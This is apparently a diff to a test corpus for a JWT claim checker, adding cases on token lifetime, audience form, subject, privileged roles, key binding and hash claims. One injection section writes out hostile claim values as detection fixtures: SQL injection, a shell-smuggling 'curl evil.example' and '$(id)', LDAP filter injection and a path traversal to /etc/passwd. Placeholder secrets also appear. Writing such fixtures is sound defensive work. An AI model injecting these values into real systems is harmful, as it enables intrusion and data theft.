@@ -1,8 +1,11 @@
 # SPDX-License-Identifier: Apache-2.0
 """Times, issuers and audiences: what the claims say against the clock, against each other, and against what was asked for."""
 
+import hashlib
+import json
+
 from .corpus import NOW, given, vector
-from .keys import pub
+from .keys import b64url, pub
 from .tokens import API, CLIENT, HOUSE, OTHER_TENANT, TENANT, at, consumer, graph, house, id_v2, idp, rewritten, v1, v2
 
 JUNE = "2026-06-01"
@@ -226,3 +229,88 @@ judged("clm/clm-aud-escaped-near", "The one asked for behind a JSON escape",
        rewritten(token(), "payload", b'"payroll"', b'"p\\u0061yroll"'), "valid",
        audience="payroll", absent="CLM-AUD")
 vector("clm/clm-aud-id-token-near", "An ID token's audience is its client", id_v2(JUNE, "ent-current"), "valid", audience=CLIENT, absent="CLM-AUD")
+
+# ---- what follows from what the token is
+
+def own(vector_name, about, verdict="valid", head=None, **expected):
+    """A token of a company's own service; what is no expectation is a claim."""
+    words = ("found", "absent", "unknown", "signature")
+    given("clm/" + vector_name, about, house("house-rsa", "RS256", head=head, **{claim: value for claim, value in expected.items() if claim not in words}), verdict,
+          KEY, **{word: value for word, value in expected.items() if word in words})
+
+
+own("clm-life-found", "It lives for two years", exp=START + 2 * 366 * 86400, found="CLM-LIFE")
+own("clm-life-edge-found", "A second over a year", exp=START + 366 * 86400 + 1, found="CLM-LIFE")
+own("clm-life-near", "A year to the day", exp=START + 366 * 86400, absent="CLM-LIFE")
+own("clm-life-clear", "An hour", absent="CLM-LIFE")
+
+vector("clm/clm-aud-form-found", "Version 2, and its audience is an address; nobody has the key", v2("2026-06-01", "ent-unlisted", aud="https://api.corp.example"),
+       "unverified", signature="unverified", found="CLM-AUD-FORM", history="empty")
+vector("clm/clm-aud-form-note-near", "The same under the issuer's own key", v2("2026-06-01", "ent-current", aud="https://api.corp.example"), "valid", found="CLM-AUD-FORM")
+own("clm-aud-form-number-found", "An audience that is a number", aud=7, found="CLM-AUD-FORM")
+own("clm-aud-form-mixed-found", "An audience among which is a number", aud=["api", 7], found="CLM-AUD-FORM")
+own("clm-aud-form-near", "A company's audience may be any text, or several", aud=["https://api.corp.example", "api"], absent="CLM-AUD-FORM")
+vector("clm/clm-aud-form-clear", "The id of an application", v2("2026-06-01", "ent-current"), "valid", absent="CLM-AUD-FORM")
+
+AT = {"typ": "at+jwt"}
+own("clm-sub-found", "A standard access token that is about nobody", head=AT, sub=None, client_id="web", found="CLM-SUB")
+own("clm-sub-iss-found", "Its subject is its issuer", head=AT, sub=HOUSE, client_id="web", found="CLM-SUB")
+own("clm-sub-client-found", "Its subject is the client, and a person has a mail address in it", head=AT, sub="web", client_id="web", email="robin@corp.example",
+    found="CLM-SUB")
+own("clm-sub-near", "A client that acts for itself", head=AT, sub="web", client_id="web", absent="CLM-SUB")
+own("clm-sub-clear", "About a person", head=AT, sub="robin", client_id="web", absent="CLM-SUB")
+
+# ---- texts that something is looked up by
+
+for case, claims in (("", {"sub": "robin' or '1'='1"}), ("-union", {"email": "x' union select name from users--"}), ("-comment", {"sub": "robin'--"}),
+                     ("-shell", {"sub": "robin; curl evil.example"}), ("-shell-inner", {"preferred_username": "$(id)"}), ("-ldap", {"sub": "*)(uid=*))(|(uid=*"}),
+                     ("-template", {"email": "{{7*7}}@corp.example"}), ("-path", {"sub": "../../etc/passwd"}), ("-role", {"roles": ["reader", "x' or 1=1"]})):
+    own(f"clm-inj{case}-found", "A claim that is written for whatever looks it up", found="CLM-INJ", **claims)
+for case, claims in (
+        ("", {"sub": "Sean O'Connor"}), ("-quotes", {"sub": 'Robin "or" Bobby'}), ("-union", {"sub": "L'Union des femmes"}), ("-company", {"sub": "Smith & Sons; Ltd"}),
+        ("-plus", {"email": "robin+lists@corp.example"}), ("-directory", {"sub": "CN=Robin (Sales),OU=People,DC=corp,DC=example"}), ("-domain", {"sub": "CORP\\robin"}),
+        ("-kubernetes", {"sub": "system:serviceaccount:shop:cart"}), ("-spiffe", {"sub": "spiffe://corp.example/ns/shop/sa/cart"}),
+        ("-github", {"sub": "repo:corp/shop:ref:refs/heads/main"}), ("-pull", {"sub": "repo:corp/shop:pull_request"}), ("-pipe", {"sub": "auth0|5f7c8ec7c33c6c004bbafe82"}),
+        ("-google", {"sub": "google-oauth2|103547991597142817347"}), ("-template", {"sub": "{tenantid}"}), ("-scopes", {"scope": "openid email read:users update:users"}),
+        ("-arn", {"sub": "arn:aws:sts::123456789012:assumed-role/Admin/robin@corp.example"}), ("-drop", {"preferred_username": "o'drop@corp.example"})):
+    own(f"clm-inj{case}-near", "An honest claim that looks a little like it", absent="CLM-INJ", **claims)
+own("clm-inj-clear", "Plain claims", absent="CLM-INJ")
+
+own("clm-pii-found", "A password stands in it", password="correct horse battery", found="CLM-PII")
+own("clm-pii-card-found", "A card's number, of those for tests", card_number="4111 1111 1111 1111", found="CLM-PII")
+own("clm-pii-key-found", "The beginning of a private key", note="-----BEGIN PRIVATE KEY-----MIIB", found="CLM-PII")
+own("clm-pii-service-found", "A key of a service, made up", note="AKIA" + "EXAMPLE7" * 2, found="CLM-PII")
+own("clm-pii-near", "A number with a wrong check digit, and when a word expires", card_number="4111 1111 1111 1112", pwd_exp="1780275600", absent="CLM-PII")
+own("clm-pii-clear", "A name and an address", name="Robin Example", email="robin@corp.example", absent="CLM-PII")
+
+vector("clm/clm-priv-found", "A global administrator", v2("2026-06-01", "ent-current", wids=["62e90394-69f5-4237-9190-012177145e10"]), "valid", found="CLM-PRIV")
+vector("clm/clm-priv-permission-found", "An application that may change the whole directory", v2("2026-06-01", "ent-current", roles=["Directory.ReadWrite.All"]), "valid",
+       found="CLM-PRIV")
+own("clm-priv-service-found", "The master role of a platform", role="service_role", found="CLM-PRIV")
+vector("clm/clm-priv-near", "What every user has, and a role that an application made up",
+       v2("2026-06-01", "ent-current", wids=["b79fbf4d-3ef9-4689-8143-76b194e85509"], roles=["Payroll.Reader"]), "valid", absent="CLM-PRIV")
+own("clm-priv-clear", "A scope", absent="CLM-PRIV")
+
+own("clm-cnf-found", "cnf names no key", cnf={}, found="CLM-CNF")
+own("clm-cnf-near", "Bound to a key: a note", cnf={"jkt": "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}, found="CLM-CNF")
+own("clm-cnf-clear", "Bound to nothing", absent="CLM-CNF")
+
+# ---- what came with it
+
+
+def in_response(code=None, **changes):
+    """An ID token in a response with an access token and perhaps a code, whose digests it holds unless changes say others."""
+    access = "2YotnFZFEjr1zCsicMWpAA"
+    def half(text):
+        return b64url(hashlib.sha256(text.encode()).digest()[:16])
+    claims = {"at_hash": half(access), **({"c_hash": half(code)} if code else {}), **changes}
+    def wrap(text):
+        return json.dumps({"access_token": access, "token_type": "Bearer", "id_token": text, **({"code": code} if code else {})})
+    return idp("2026-06-01", wrap=wrap, **claims)
+
+
+given("clm/clm-hash-found", "The digest of another access token", in_response(at_hash=b64url(bytes(16))), "invalid", pub("idp"), found="CLM-HASH")
+given("clm/clm-hash-code-found", "The digest of another code", in_response(code="SplxlOBeZQQYbYS6WxSbIA", c_hash=b64url(bytes(16))), "invalid", pub("idp"), found="CLM-HASH")
+given("clm/clm-hash-near", "Both digests are right", in_response(code="SplxlOBeZQQYbYS6WxSbIA"), "valid", pub("idp"), absent="CLM-HASH")
+given("clm/clm-hash-alone-near", "A digest, and nothing that came with it", idp("2026-06-01", at_hash=b64url(bytes(16))), "valid", pub("idp"), absent="CLM-HASH")
+given("clm/clm-hash-clear", "No digest, and nothing that came with it", idp("2026-06-01"), "valid", pub("idp"), absent="CLM-HASH")
